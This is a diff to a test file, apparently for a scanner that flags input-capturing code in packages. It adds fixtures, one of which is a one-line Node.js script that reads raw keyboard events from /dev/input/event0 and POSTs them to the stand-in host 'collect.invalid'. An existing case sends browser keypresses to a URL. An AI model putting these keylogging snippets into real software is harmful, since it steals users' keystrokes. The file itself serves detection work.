@@ -4,6 +4,13 @@ import { capturesInput } from './captures-input.ts';
 examine(capturesInput, {
   speaks: [
     {
+      when: 'what the kernel gives keys out by goes to a host',
+      files: {
+        'index.js': `const { pipeline } = require('stream'); pipeline(require('fs').createReadStream('/dev/input/event0'), require('http').request('http://collect.invalid/ev', { method: 'POST' }), () => {});`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a recorder that is started tells whoever it is given what keys were pressed',
       files: {
         'index.js': `exports.listen = url => document.addEventListener('keypress', event => fetch(url + '/events', { method: 'POST', body: event.key }), true)`,
@@ -80,6 +87,10 @@ examine(capturesInput, {
     },
   ],
   silent: [
+    {
+      when: 'a library for gamepads reads what the kernel gives them out by, and tells its caller',
+      files: { 'index.js': `exports.open = (number, tell) => require('fs').createReadStream('/dev/input/js' + number).on('data', tell);` },
+    },
     {
       when: 'a page asks its own server for what is typed into its search',
       files: {
